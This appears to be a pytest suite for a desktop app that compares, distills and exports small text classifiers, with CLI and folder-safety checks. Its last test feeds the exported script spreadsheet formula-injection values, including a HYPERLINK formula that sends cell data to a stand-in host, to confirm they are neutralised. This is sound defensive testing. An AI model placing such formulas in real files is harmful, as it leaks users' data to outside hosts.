"""Compare, distill and export with tiny offline models: leaderboard, student run, export folders, CLI."""

from __future__ import annotations

import csv
import json
import subprocess
import sys
from pathlib import Path

import pytest

from desktop_app.cli.app import main as cli_main
from desktop_app.core.compare import compare
from desktop_app.core.data import load_labeled
from desktop_app.core.distill import distill
from desktop_app.core.events import EventLog
from desktop_app.core.export import export_run
from desktop_app.core.inference import Classifier
from desktop_app.core.runs import RunInfo
from desktop_app.core.settings import TrainSettings
from desktop_app.core.training import TrainJob, train

SETTINGS = TrainSettings(epochs=1, max_length=32, device="cpu")
ROW_KEYS = {"name", "run_dir", "accuracy", "macro_f1", "docs_per_s_cpu", "p50_ms", "p95_ms", "parameters", "size_mb",
            "train_s", "variant"}


@pytest.fixture(scope="module")
def env(tmp_path_factory, sample_csv):
    from tiny_models import build_tiny_model

    root = tmp_path_factory.mktemp("cde")
    rows = list(csv.DictReader(sample_csv.open(encoding="utf-8")))[:60]
    data_csv = root / "d60.csv"
    with data_csv.open("w", encoding="utf-8", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=["text", "label"])
        w.writeheader()
        w.writerows(rows)
    small_csv = root / "five.csv"
    with small_csv.open("w", encoding="utf-8", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=["id", "text"])
        w.writeheader()
        w.writerows({"id": i, "text": r["text"]} for i, r in enumerate(rows[:5]))
    texts = [r["text"] for r in rows]
    bert = build_tiny_model("bert", root / "bert", texts)
    distilbert = build_tiny_model("distilbert", root / "distilbert", texts)
    data = load_labeled(data_csv).data
    teacher = root / "teacher"
    assert train(TrainJob(train=data, out_dir=teacher, model=str(bert), settings=SETTINGS)).status == "finished"
    return {"root": root, "csv": data_csv, "small_csv": small_csv, "data": data, "bert": bert,
            "distilbert": distilbert, "teacher": teacher}


def test_compare_two_tiny_models_gives_fp32_and_int8_rows_and_recommendations(env, tmp_path):
    log = EventLog()
    rows = compare(env["data"], [str(env["bert"]), str(env["distilbert"])], tmp_path / "cmp", SETTINGS, log,
                   speed_docs=32, latency_docs=4)
    assert len(rows) == 4 and all(ROW_KEYS <= set(r) for r in rows)
    assert {(Path(r["name"]).name, r["variant"]) for r in rows} == {
        ("bert", "fp32"), ("bert", "int8"), ("distilbert", "fp32"), ("distilbert", "int8")}
    by = {(Path(r["name"]).name, r["variant"]): r for r in rows}
    assert by["bert", "int8"]["size_mb"] < by["bert", "fp32"]["size_mb"]
    assert all(r["docs_per_s_cpu"] > 0 and r["p95_ms"] >= r["p50_ms"] > 0 for r in rows)
    # same split for every model: identical validation size
    assert len({r["n_valid"] for r in rows}) == 1
    board = json.loads((tmp_path / "cmp" / "leaderboard.json").read_text())
    assert board["status"] == "finished" and len(board["rows"]) == 4
    rec = board["recommendations"]
    best = max(r["accuracy"] for r in rows)
    assert rec["most_accurate"]["accuracy"] == best
    assert rec["fastest_within_1_point"]["accuracy"] >= best - 0.01
    assert (tmp_path / "cmp" / "01-bert" / "model" / "config.json").is_file()
    assert len(log.of("finished")) == 2


def test_distill_writes_a_loadable_two_layer_run(env, tmp_path):
    out = tmp_path / "student"
    log = EventLog()
    record = distill(env["teacher"], env["data"], layers=2, out_dir=out, epochs=1, on_event=log)
    clf = Classifier.load(out)
    assert clf.model.config.num_hidden_layers == 2 and len(clf.model.bert.encoder.layer) == 2
    assert clf.labels == record["labels"] and len(clf.predict(["my parcel never arrived"])) == 1
    saved = json.loads((out / "run.json").read_text())
    assert {"accuracy", "macro_f1", "labels", "per_class", "confusion_matrix", "n"} <= set(saved["final_metrics"])
    d = saved["distillation"]
    assert {"teacher_accuracy", "student_accuracy", "retained", "speedup", "teacher_size_mb", "student_size_mb"} <= set(d)
    assert d["student_size_mb"] < d["teacher_size_mb"] and d["kept_layers"] == [0, 2]
    info = RunInfo.from_folder(out)
    assert info.status == "finished" and info.final_metrics["n"] == saved["data"]["n_valid"]
    assert log.of("finished") and log.of("eval")


@pytest.mark.parametrize("fmt", ["hf", "onnx", "int8"])
def test_export_writes_model_card_and_a_standalone_predict_script(env, tmp_path, fmt):
    out = tmp_path / f"exp_{fmt}"
    summary = export_run(env["teacher"], fmt, out, data=env["data"] if fmt == "int8" else None, latency_docs=4)
    expected = {"hf": "model.safetensors", "onnx": "model.onnx", "int8": "model.onnx"}[fmt]
    assert {"README.md", "predict.py", "labels.json", expected} <= {p.name for p in out.iterdir()}
    card = (out / "README.md").read_text()
    assert "## Limitations" in card and "| class | precision |" in card and "## Intended use" in card
    if fmt == "onnx":
        assert summary["onnx"]["max_abs_diff"] is not None and summary["onnx"]["max_abs_diff"] < 1e-3
    if fmt == "int8":
        q = summary["int8"]
        assert q["int8_size_mb"] < q["fp32_size_mb"] and q["speedup"] > 0 and "accuracy_change" in q
    result_csv = tmp_path / "out.csv"
    proc = subprocess.run([sys.executable, str(out / "predict.py"), str(env["small_csv"]), str(result_csv)],
                          capture_output=True, text=True, timeout=120, cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr[-2000:]
    rows = list(csv.DictReader(result_csv.open(encoding="utf-8")))
    labels = json.loads((out / "labels.json").read_text())["labels"]
    assert len(rows) == 5 and all(r["predicted_label"] in labels for r in rows) and "id" in rows[0]
    # the standalone script agrees with the app's own classifier
    clf = Classifier.load(env["teacher"], device="cpu")
    ours = [p.label for p in clf.predict([r["text"] for r in rows])]
    if fmt != "int8":
        assert [r["predicted_label"] for r in rows] == ours
        assert all(abs(float(r[f"prob_{l}"]) - p.probabilities[l]) < 1e-3
                   for r, p in zip(rows, clf.predict([r["text"] for r in rows])) for l in labels)


def test_cli_exit_codes_and_json(env, tmp_path, capsys):
    missing = str(tmp_path / "no-such-run")
    assert cli_main(["distill", missing, str(env["csv"]), "--layers", "2", "--out", str(tmp_path / "s")]) == 2
    assert cli_main(["export", missing, "--format", "onnx", "--out", str(tmp_path / "e")]) == 2
    assert cli_main(["compare", str(env["csv"]), "--models", " , ", "--out", str(tmp_path / "c")]) == 2
    with pytest.raises(SystemExit) as exc:
        cli_main(["export", str(env["teacher"]), "--format", "tflite", "--out", str(tmp_path / "e")])
    assert exc.value.code == 2
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "notes.txt").write_text("keep me")
    assert cli_main(["export", str(env["teacher"]), "--format", "hf", "--out", str(tmp_path / "mine")]) == 2
    assert (tmp_path / "mine" / "notes.txt").read_text() == "keep me"
    assert cli_main(["distill", str(env["teacher"]), str(env["csv"]), "--layers", "4", "--out", str(tmp_path / "s")]) == 2
    capsys.readouterr()

    assert cli_main(["export", str(env["teacher"]), "--format", "hf", "--out", str(tmp_path / "e"), "--json"]) == 0
    out = json.loads(capsys.readouterr().out.strip().splitlines()[-1])
    assert out["format"] == "hf" and (tmp_path / "e" / "config.json").is_file()

    assert cli_main(["compare", str(env["csv"]), "--models", str(env["distilbert"]), "--out", str(tmp_path / "c"),
                     "--epochs", "1", "--max-length", "32", "--device", "cpu", "--json"]) == 0
    out = json.loads(capsys.readouterr().out.strip().splitlines()[-1])
    assert {r["variant"] for r in out["rows"]} == {"fp32", "int8"}
    assert {"most_accurate", "fastest_within_1_point"} <= set(out["recommendations"])
    # a second comparison into the same folder is refused
    assert cli_main(["compare", str(env["csv"]), "--models", str(env["distilbert"]), "--out", str(tmp_path / "c")]) == 2


def test_distill_cancelled_in_the_middle_resumes_on_the_training_loop(env, tmp_path):
    from desktop_app.core.errors import TrainingCancelled
    from desktop_app.core.runs import read_record

    out = tmp_path / "s"
    log = EventLog()
    with pytest.raises(TrainingCancelled):  # cancel before training began: nothing saved, the folder is not left behind
        distill(env["teacher"], env["data"], out_dir=out, epochs=1, on_event=log, should_stop=lambda: True)
    assert not out.exists() and not log.of("cancelled")[0].resumable

    log = EventLog()
    with pytest.raises(TrainingCancelled):  # cancel in the middle of the run: after the first epoch's evaluation
        distill(env["teacher"], env["data"], layers=2, out_dir=out, epochs=3, on_event=log,
                should_stop=lambda: len(log.of("eval")) >= 1)
    cancelled = log.of("cancelled")[0]
    assert cancelled.resumable and (out / "checkpoint" / "state.json").is_file()
    record = read_record(out)
    assert record.status == "cancelled" and record.kind == "distilled"
    stopped_at = log.of("step")[-1].step

    log2 = EventLog()
    # the student is resumed as it was built (2 layers), whatever is asked now (the GUI passes no layer count)
    resumed = distill(env["teacher"], env["data"], layers=1, out_dir=out, epochs=3, on_event=log2, resume=True)
    assert resumed["status"] == "finished" and resumed["distillation"]["kept_layers"] == [0, 2]
    assert log2.of("step")[0].step > stopped_at and any("Resuming" in e.message for e in log2.of("status"))
    assert len(Classifier.load(out).predict(["my parcel never arrived"])) == 1
    assert cli_main(["distill", str(env["teacher"]), str(env["csv"]), "--out", str(out), "--resume"]) == 2  # finished


def test_distill_time_budget_plans_the_epochs(env, tmp_path):
    log = EventLog()
    record = distill(env["teacher"], env["data"], layers=2, out_dir=tmp_path / "s", epochs=200, on_event=log,
                     time_budget_min=0.05)
    assert record["status"] == "finished" and record["settings"]["epochs"] < 200
    assert any("Time budget" in e.message for e in log.of("status"))


def test_model_names_for_people(tmp_path):
    from desktop_app.core.models import BUNDLED_NAME, short_name
    from desktop_app.core.resources import bundled_model_dir

    assert short_name(str(bundled_model_dir())) == BUNDLED_NAME  # not its folder, which is called "model"
    assert short_name("default") == BUNDLED_NAME
    assert short_name("distilbert-base-uncased") == "distilbert-base-uncased"
    (tmp_path / "my-run" / "model").mkdir(parents=True)
    assert short_name(tmp_path / "my-run" / "model") == "my-run"


def test_export_and_compare_never_write_into_the_users_own_folder(env, tmp_path):
    from desktop_app.core.errors import UserInputError

    mine = tmp_path / "my documents"
    mine.mkdir()
    (mine / "thesis.docx").write_text("two years of work", encoding="utf-8")
    with pytest.raises(UserInputError, match="not an export"):
        export_run(env["teacher"], "hf", mine)
    with pytest.raises(UserInputError, match="not a model comparison"):
        compare(env["data"], [str(env["bert"])], mine, SETTINGS, speed_docs=8, latency_docs=2)
    with pytest.raises(UserInputError, match="inside"):
        export_run(env["teacher"], "hf", env["teacher"] / "exported")
    assert [p.name for p in mine.iterdir()] == ["thesis.docx"]
    assert (mine / "thesis.docx").read_text(encoding="utf-8") == "two years of work"
    assert not (env["teacher"] / "exported").exists()


def test_exported_predict_script_writes_no_live_formulas(env, tmp_path):
    out = tmp_path / "exp"
    export_run(env["teacher"], "onnx", out, latency_docs=2)
    hostile = tmp_path / "hostile.csv"
    with hostile.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["=cmd", "text"])
        w.writerow(['=HYPERLINK("http://example.invalid/"&A2,"x")', "my invoice is wrong"])
        w.writerow(["@SUM(1)", "+1 the app crashes"])
    result = tmp_path / "out.csv"
    proc = subprocess.run([sys.executable, str(out / "predict.py"), str(hostile), str(result), "--text-column", "text"],
                          capture_output=True, text=True, timeout=120, cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr[-2000:]
    cells = [c for row in csv.reader(result.open(encoding="utf-8")) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    assert "'=cmd" in cells and "'+1 the app crashes" in cells
